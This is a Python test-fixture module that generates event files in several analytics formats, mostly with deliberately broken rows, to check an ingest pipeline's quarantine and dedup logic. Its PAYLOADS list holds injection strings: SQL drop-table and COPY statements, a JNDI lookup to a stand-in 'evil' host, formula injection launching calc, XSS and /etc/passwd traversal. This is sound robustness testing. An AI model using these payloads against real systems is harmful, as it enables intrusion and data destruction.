"""Files of many rows, most of them broken on purpose, with the outcome each row must have.

A ``Recipe`` (drawn by hypothesis: a seed and a pool of hostile strings) expands into ``n`` rows of
one input format. Every row has exactly one defect (or none) and so one expected outcome: ``loaded``,
``duplicate`` or a quarantine reason of the closed list. Free-text fields of every row carry the
hostile strings (quotes, delimiters, newlines, NUL and other control characters, SQL and formula
payloads, right-to-left marks, BOMs, 10,000-character values), which must load as data.

Formats: canonical CSV, NDJSON and Parquet; the GA4 (NDJSON), Segment (NDJSON), Snowplow (TSV) and
REES46 (CSV) adapters.
"""

from __future__ import annotations

import datetime as dt
import json
import random
import uuid
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import polars as pl

from pipeline.ingest.adapters import SNOWPLOW_COLUMNS

NOW = dt.datetime(2025, 3, 1)
T0 = dt.datetime(2025, 1, 6, 9, 0, 0)
FUTURE = "2999-01-01T00:00:00Z"

PAYLOADS = [
    "'; drop table raw.events; --", "\" or 1=1 --", "'); copy raw.events to '/tmp/x.csv'; --",
    "read_csv('/etc/passwd')", "${jndi:ldap://evil/a}", "<script>alert(1)</script>", "=HYPERLINK(\"http://x\")",
    "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "../../etc/passwd", "\u202eevil", "\ufeffbom", "NULL", "null", "\\N",
    "NaN", "1e309", "a,b;c|d\te", "\"quoted\"", "line\nbreak", "cr\rreturn", "nul\x00byte", "bell\x07", "😀" * 20,
    "𝕳𝖊𝖑𝖑𝖔", "x" * 10_000, "", "   ", "{\"json\": [1, 2]}", "[1,2]", "\\", "\\\"", "%00", "%s%n", "{0}{1}",
]


@dataclass
class Expected:
    n_read: int = 0
    loaded_ids: set[str] = field(default_factory=set)  # event ids of the rows that must load
    n_loaded: int = 0
    n_duplicate: int = 0
    reasons: Counter = field(default_factory=Counter)  # quarantine reason -> rows

    @property
    def n_quarantined(self) -> int:
        return sum(self.reasons.values())

    @property
    def n_bad(self) -> int:
        """Rows generated broken: quarantined, or a duplicate of a row already in the file."""
        return self.n_quarantined + self.n_duplicate


# Defects and their weights: ~10-15% good rows, ~80% quarantined, the rest duplicates.
CANONICAL_KINDS = {
    "good": 10, "duplicate": 4, "duplicate_conflict": 4, "missing_ts": 7, "bad_ts": 9, "future_ts": 7,
    "bad_revenue": 8, "missing_identity": 8, "missing_event_name": 7, "bad_currency": 6, "bad_country": 6,
    "long_user_id": 5, "long_event_name": 4, "malformed": 8,
}
REASON = {
    "missing_ts": "missing_value", "bad_ts": "invalid_timestamp", "future_ts": "future_timestamp",
    "bad_revenue": "invalid_number", "missing_identity": "missing_identity", "missing_event_name": "missing_value",
    "bad_currency": "invalid_value", "bad_country": "invalid_value", "long_user_id": "invalid_value",
    "long_event_name": "invalid_value",
}
CANONICAL = ["event_id", "user_id", "anonymous_id", "session_id", "ts", "event_name", "raw_event_name", "source",
             "medium", "campaign", "channel", "page_url", "referrer", "product_id", "revenue", "currency", "device",
             "country", "note"]


class Recipe:
    def __init__(self, seed: int, pool: list[str], n: int) -> None:
        self.rng = random.Random(seed)
        self.pool = pool + PAYLOADS
        self.n = n
        self.tag = uuid.UUID(int=self.rng.getrandbits(128)).hex[:8]

    def text(self, *, plain: bool = False) -> str:
        value = self.rng.choice(self.pool)
        if plain:  # formats without quoting (Snowplow TSV): no tabs or line breaks inside a field
            value = value.replace("\t", " ").replace("\n", " ").replace("\r", " ")
        return value

    def kind(self, kinds: dict[str, int]) -> str:
        return self.rng.choices(list(kinds), weights=list(kinds.values()))[0]

    def ts(self, i: int) -> dt.datetime:
        return T0 + dt.timedelta(seconds=37 * i + self.rng.randrange(30))


# --------------------------------------------------------------------------------------------------
# Canonical (CSV, NDJSON, Parquet)
# --------------------------------------------------------------------------------------------------


def canonical_rows(recipe: Recipe, *, allow_malformed: bool) -> tuple[list[dict | str], Expected]:
    """Rows as dicts of strings (a str item is a raw malformed record); their expected outcome."""
    rows: list[dict | str] = []
    good: list[dict] = []
    expected = Expected()
    for i in range(recipe.n):
        kind = recipe.kind(CANONICAL_KINDS)
        if kind.startswith("duplicate") and not good:
            kind = "good"
        if kind == "malformed" and not allow_malformed:
            kind = "bad_ts"
        row = {
            "event_id": f"{recipe.tag}-{i}", "user_id": f"user-{recipe.rng.randrange(50)}",
            "anonymous_id": f"anon-{recipe.rng.randrange(80)}", "session_id": recipe.text(),
            "ts": recipe.ts(i).isoformat() + "Z",
            "event_name": recipe.rng.choice(["page_view", "view_item", "purchase"]),
            "raw_event_name": recipe.text(), "source": recipe.text(), "medium": recipe.text(),
            "campaign": recipe.text(), "channel": recipe.text(), "page_url": recipe.text(), "referrer": recipe.text(),
            "product_id": recipe.text(), "revenue": str(recipe.rng.randrange(10_000) / 100), "currency": "EUR",
            "device": recipe.text(), "country": recipe.rng.choice(["DE", "CZ", "", "us"]), "note": recipe.text(),
        }
        if kind == "duplicate":
            rows.append(dict(recipe.rng.choice(good)))
            expected.n_duplicate += 1
            expected.n_read += 1
            continue
        if kind == "duplicate_conflict":  # same id, other content: the first row of the id wins
            row["event_id"] = recipe.rng.choice(good)["event_id"]
            rows.append(row)
            expected.n_duplicate += 1
            expected.n_read += 1
            continue
        if kind == "malformed":
            rows.append("malformed")
            expected.reasons["malformed"] += 1
            expected.n_read += 1
            continue
        if kind == "missing_ts":
            row["ts"] = recipe.rng.choice(["", "   "])
        elif kind == "bad_ts":
            row["ts"] = "x" + recipe.text()
        elif kind == "future_ts":
            row["ts"] = FUTURE
        elif kind == "bad_revenue":
            row["revenue"] = "x" + recipe.text()
        elif kind == "missing_identity":
            row["user_id"] = row["anonymous_id"] = recipe.rng.choice(["", " "])
        elif kind == "missing_event_name":
            row["event_name"] = ""
        elif kind == "bad_currency":
            row["currency"] = recipe.rng.choice(["EURO", "€", "E1R", "xx"])
        elif kind == "bad_country":
            row["country"] = recipe.rng.choice(["Germany", "D", "D3"])
        elif kind == "long_user_id":
            row["user_id"] = "u" * 300
        elif kind == "long_event_name":
            row["event_name"] = "e" * 200
        rows.append(row)
        expected.n_read += 1
        if kind == "good":
            good.append(row)
            expected.loaded_ids.add(row["event_id"])
            expected.n_loaded += 1
        else:
            expected.reasons[REASON[kind]] += 1
    return rows, expected


def _csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def write_canonical(recipe: Recipe, path: Path, kind: str) -> Expected:
    rows, expected = canonical_rows(recipe, allow_malformed=kind != "parquet")
    if kind == "csv":
        lines = [",".join(CANONICAL)]
        for row in rows:
            if isinstance(row, str):  # a record the CSV parser cannot split: too many / too few fields
                lines.append(recipe.rng.choice([",".join(["x"] * (len(CANONICAL) + 3)), "x,y"]))
            else:
                lines.append(",".join(_csv_field(row[c]) for c in CANONICAL))
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        expected.reasons["malformed_row"] += expected.reasons.pop("malformed", 0)
    elif kind == "ndjson":
        lines = []
        for row in rows:
            if isinstance(row, str):
                lines.append(recipe.rng.choice(["{broken", "[1, 2]", "\"a string\"", "42", "null", "{\"a\": 1",
                                                "true", "'single'"]))
            else:
                obj = dict(row)
                obj["nested"] = {"deep": [recipe.text(), {"k": recipe.text()}], "n": recipe.rng.random()}
                lines.append(json.dumps(obj, ensure_ascii=recipe.rng.random() < 0.5))
            if recipe.rng.random() < 0.05:
                lines.append("   ")  # a blank line is not a record
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        expected.reasons["malformed_json"] += expected.reasons.pop("malformed", 0)
    else:
        pl.DataFrame(rows, schema={c: pl.Utf8 for c in CANONICAL}).write_parquet(path)
    return expected


# --------------------------------------------------------------------------------------------------
# Segment (NDJSON)
# --------------------------------------------------------------------------------------------------

SEGMENT_KINDS = {"good": 10, "duplicate": 6, "bad_ts": 12, "missing_ts": 10, "future_ts": 10, "missing_identity": 12,
                 "bad_revenue": 10, "malformed": 12, "bad_currency": 9}


def write_segment(recipe: Recipe, path: Path) -> Expected:
    lines, good, expected = [], [], Expected()
    for i in range(recipe.n):
        kind = recipe.kind(SEGMENT_KINDS)
        if kind == "duplicate" and not good:
            kind = "good"
        expected.n_read += 1
        if kind == "duplicate":
            lines.append(recipe.rng.choice(good))
            expected.n_duplicate += 1
            continue
        if kind == "malformed":
            lines.append(recipe.rng.choice(["{\"messageId\": ", "[]", "\"track\"", "0"]))
            expected.reasons["malformed_json"] += 1
            continue
        message_id = f"{recipe.tag}-{i}"
        ts = recipe.ts(i)
        call = {
            "messageId": message_id, "type": "track", "userId": f"user-{recipe.rng.randrange(50)}",
            "anonymousId": f"anon-{recipe.rng.randrange(80)}", "event": "Product Viewed",
            "timestamp": ts.isoformat() + "Z", "sentAt": ts.isoformat() + "Z", "receivedAt": ts.isoformat() + "Z",
            "properties": {"product_id": recipe.text(), "url": recipe.text(), "free": recipe.text()},
            "context": {"campaign": {"source": recipe.text(), "name": recipe.text()},
                        "location": {"country": "Germany"}},
        }
        if kind == "bad_ts":
            call["timestamp"] = "x" + recipe.text()
        elif kind == "missing_ts":
            del call["timestamp"]
        elif kind == "future_ts":
            call["timestamp"] = call["sentAt"] = call["receivedAt"] = FUTURE
        elif kind == "missing_identity":
            del call["userId"], call["anonymousId"]
        elif kind == "bad_revenue":
            call["event"] = "Order Completed"
            call["properties"]["revenue"] = "x" + recipe.text()
        elif kind == "bad_currency":
            call["properties"]["currency"] = "EURO"
        line = json.dumps(call, ensure_ascii=recipe.rng.random() < 0.5)
        lines.append(line)
        if kind == "good":
            good.append(line)
            expected.loaded_ids.add(message_id)
            expected.n_loaded += 1
        else:
            expected.reasons[{"bad_ts": "invalid_timestamp", "missing_ts": "missing_value",
                              "future_ts": "future_timestamp", "missing_identity": "missing_identity",
                              "bad_revenue": "invalid_number", "bad_currency": "invalid_value"}[kind]] += 1
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return expected


# --------------------------------------------------------------------------------------------------
# GA4 BigQuery export (NDJSON)
# --------------------------------------------------------------------------------------------------

GA4_KINDS = {"good": 8, "duplicate": 6, "bad_ts": 12, "future_ts": 10, "missing_identity": 12,
             "missing_event_name": 12, "malformed": 12, "bad_revenue": 9, "odd_shapes": 6}


def write_ga4(recipe: Recipe, path: Path) -> Expected:
    lines, good, expected = [], [], Expected()
    for i in range(recipe.n):
        kind = recipe.kind(GA4_KINDS)
        if kind == "duplicate" and not good:
            kind = "good"
        expected.n_read += 1
        if kind == "duplicate":
            lines.append(recipe.rng.choice(good))
            expected.n_duplicate += 1
            continue
        if kind == "malformed":
            lines.append(recipe.rng.choice(["{\"event_name\": \"page_view\"", "[{}]", "\"x\"", "NaN"]))
            expected.reasons["malformed_json"] += 1
            continue
        micros = int((recipe.ts(i) - dt.datetime(1970, 1, 1)).total_seconds() * 1_000_000) + i
        row = {
            "event_date": "20250106", "event_timestamp": str(micros), "event_name": "page_view",
            "user_pseudo_id": f"{recipe.rng.randrange(10**9)}.{1736154000 + i}", "stream_id": "1234",
            "event_params": [{"key": "page_location", "value": {"string_value": recipe.text()}},
                             {"key": "ga_session_id", "value": {"int_value": str(1736154000 + i)}},
                             {"key": "free", "value": {"string_value": recipe.text()}}],
            "device": {"category": recipe.text()}, "geo": {"country": recipe.text()},
            "items": [{"item_id": recipe.text(), "price": recipe.text(), "quantity": recipe.text()}],
        }
        if kind == "bad_ts":
            row["event_timestamp"] = "x" + recipe.text()
        elif kind == "future_ts":
            row["event_timestamp"] = str(32503680000 * 1_000_000 + i)  # the year 3000, in micros
        elif kind == "missing_identity":
            del row["user_pseudo_id"]
        elif kind == "missing_event_name":
            row["event_name"] = recipe.rng.choice([None, ""])
        elif kind == "bad_revenue":
            row["event_name"] = "purchase"
            row["ecommerce"] = {"purchase_revenue": "x" + recipe.text(), "transaction_id": recipe.text()}
        elif kind == "odd_shapes":  # wrong shapes of optional parts: still a good event
            row["event_params"] = recipe.rng.choice(["not a list", {"key": "x"}, None, [1, 2]])
            row["items"] = recipe.rng.choice([{"item_id": 1}, "x", None])
            row["device"] = recipe.rng.choice(["desktop", 3, None])
        line = json.dumps(row, ensure_ascii=recipe.rng.random() < 0.5)
        lines.append(line)
        if kind in ("good", "odd_shapes"):
            good.append(line)
            expected.n_loaded += 1
        else:
            expected.reasons[{"bad_ts": "invalid_timestamp", "future_ts": "future_timestamp",
                              "missing_identity": "missing_identity", "missing_event_name": "missing_value",
                              "bad_revenue": "invalid_number"}[kind]] += 1
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return expected


# --------------------------------------------------------------------------------------------------
# Snowplow enriched events (TSV, 131 fields, no quoting)
# --------------------------------------------------------------------------------------------------

SNOWPLOW_KINDS = {"good": 10, "duplicate": 6, "bad_ts": 12, "future_ts": 10, "missing_identity": 12,
                  "malformed": 14, "bad_revenue": 10, "bad_currency": 9, "missing_event_name": 8}


def write_snowplow(recipe: Recipe, path: Path) -> Expected:
    lines, good, expected = [], [], Expected()
    for i in range(recipe.n):
        kind = recipe.kind(SNOWPLOW_KINDS)
        if kind == "duplicate" and not good:
            kind = "good"
        expected.n_read += 1
        if kind == "duplicate":
            lines.append(recipe.rng.choice(good))
            expected.n_duplicate += 1
            continue
        if kind == "malformed":  # a cut line: too few fields (or too many)
            n = recipe.rng.choice([1, 40, 130, 135])
            lines.append("\t".join("cut" + recipe.text(plain=True) for _ in range(n)))
            expected.reasons["malformed_row"] += 1
            continue
        ts = recipe.ts(i).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        event_id = str(uuid.UUID(int=recipe.rng.getrandbits(128)))
        values = {c: "" for c in SNOWPLOW_COLUMNS}
        values.update({
            "app_id": recipe.text(plain=True), "platform": "web", "collector_tstamp": ts, "derived_tstamp": ts,
            "event": "page_view", "event_id": event_id, "v_collector": "ssc-2.0.0", "domain_userid": f"d-{i % 90}",
            "domain_sessionid": str(uuid.UUID(int=recipe.rng.getrandbits(128))), "page_url": recipe.text(plain=True),
            "page_title": recipe.text(plain=True), "page_referrer": recipe.text(plain=True),
            "mkt_campaign": recipe.text(plain=True), "useragent": recipe.text(plain=True),
            "user_ipaddress": "203.0.113.9",
            "event_name": "page_view", "event_vendor": "com.snowplowanalytics.snowplow",
        })
        if kind == "bad_ts":
            values["derived_tstamp"] = "x" + recipe.text(plain=True)
        elif kind == "future_ts":
            values["derived_tstamp"] = values["collector_tstamp"] = "2999-01-01 00:00:00.000"
        elif kind == "missing_identity":
            values["domain_userid"] = ""
        elif kind == "bad_revenue":
            values.update(event="transaction", event_name="transaction", tr_total="x" + recipe.text(plain=True))
        elif kind == "bad_currency":
            values["tr_currency"] = "EURO"
        elif kind == "missing_event_name":
            values["event"] = values["event_name"] = ""
        line = "\t".join(values[c] for c in SNOWPLOW_COLUMNS)
        lines.append(line)
        if kind == "good":
            good.append(line)
            expected.loaded_ids.add(event_id)
            expected.n_loaded += 1
        else:
            expected.reasons[{"bad_ts": "invalid_timestamp", "future_ts": "future_timestamp",
                              "missing_identity": "missing_identity", "bad_revenue": "invalid_number",
                              "bad_currency": "invalid_value", "missing_event_name": "missing_value"}[kind]] += 1
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return expected


# --------------------------------------------------------------------------------------------------
# REES46 (CSV)
# --------------------------------------------------------------------------------------------------

REES46_COLUMNS = ["event_time", "event_type", "product_id", "category_id", "category_code", "brand", "price",
                  "user_id", "user_session"]
REES46_KINDS = {"good": 10, "duplicate": 6, "bad_ts": 12, "missing_ts": 10, "future_ts": 10, "missing_identity": 12,
                "bad_revenue": 10, "malformed": 12, "missing_event_name": 9}


def write_rees46(recipe: Recipe, path: Path) -> Expected:
    lines, good, expected = [",".join(REES46_COLUMNS)], [], Expected()
    for i in range(recipe.n):
        kind = recipe.kind(REES46_KINDS)
        if kind == "duplicate" and not good:
            kind = "good"
        expected.n_read += 1
        if kind == "duplicate":
            lines.append(recipe.rng.choice(good))
            expected.n_duplicate += 1
            continue
        if kind == "malformed":
            lines.append(recipe.rng.choice([",".join(["1"] * 12), "2019-10-01 00:00:00 UTC,view"]))
            expected.reasons["malformed_row"] += 1
            continue
        row = {
            "event_time": recipe.ts(i).strftime("%Y-%m-%d %H:%M:%S UTC"), "event_type": "view",
            "product_id": str(1000 + i), "category_id": recipe.text(), "category_code": recipe.text(),
            "brand": recipe.text(), "price": f"{recipe.rng.randrange(100000) / 100:.2f}",
            "user_id": str(500000000 + recipe.rng.randrange(60)), "user_session": str(uuid.uuid4()),
        }
        if kind == "bad_ts":
            row["event_time"] = "x" + recipe.text()
        elif kind == "missing_ts":
            row["event_time"] = ""
        elif kind == "future_ts":
            row["event_time"] = "2999-01-01 00:00:00 UTC"
        elif kind == "missing_identity":
            row["user_id"] = ""
        elif kind == "bad_revenue":
            row.update(event_type="purchase", price="x" + recipe.text())
        elif kind == "missing_event_name":
            row["event_type"] = ""
        line = ",".join(_csv_field(row[c]) for c in REES46_COLUMNS)
        lines.append(line)
        if kind == "good":
            good.append(line)
            expected.n_loaded += 1
        else:
            expected.reasons[{"bad_ts": "invalid_timestamp", "missing_ts": "missing_value",
                              "future_ts": "future_timestamp", "missing_identity": "missing_identity",
                              "bad_revenue": "invalid_number", "missing_event_name": "missing_value"}[kind]] += 1
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return expected


WRITERS = {
    "canonical_csv": ("events.csv", "canonical", lambda r, p: write_canonical(r, p, "csv")),
    "canonical_ndjson": ("events.ndjson", "canonical", lambda r, p: write_canonical(r, p, "ndjson")),
    "canonical_parquet": ("events.parquet", "canonical", lambda r, p: write_canonical(r, p, "parquet")),
    "ga4": ("events_20250106.ndjson", "ga4", write_ga4),
    "segment": ("calls.ndjson", "segment", write_segment),
    "snowplow": ("enriched.tsv", "snowplow", write_snowplow),
    "rees46": ("2019-Oct.csv", "rees46", write_rees46),
}
